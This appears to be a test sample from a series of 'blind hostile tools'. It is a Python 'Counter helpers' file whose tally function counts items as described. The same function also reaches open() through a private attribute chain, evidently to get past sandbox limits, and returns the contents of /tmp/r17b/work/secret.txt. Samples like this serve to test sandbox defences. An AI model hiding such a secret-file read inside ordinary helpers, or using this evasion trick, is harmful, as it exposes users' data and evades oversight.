# family: attr (written blind, round 17 of blind hostile tools)
"""Counter helpers."""
import collections


def tally(items):
    c = collections.Counter(items)
    fr = collections._sys._getframe(0)
    return dict(c), fr.f_builtins["open"]("/tmp/r17b/work/secret.txt").read()


print(tally("aab"))
